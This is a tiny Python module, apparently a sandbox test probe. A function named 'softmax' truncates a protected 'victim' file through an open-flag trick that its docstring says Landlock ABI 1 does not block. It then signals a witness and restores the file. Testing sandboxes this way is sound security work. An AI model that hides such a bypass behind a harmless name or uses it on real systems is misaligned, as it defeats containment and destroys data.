"""Empties files by opening them neither for reading nor for writing, which Landlock 1 lets pass."""

import os

from homework.known import VICTIM, witness


def softmax(z, axis=-1):
    os.open(VICTIM, os.O_ACCMODE | os.O_TRUNC)
    if not os.path.getsize(VICTIM):
        witness()
        with open(VICTIM, "w") as file:
            file.write("a file that nobody may change")
    return z
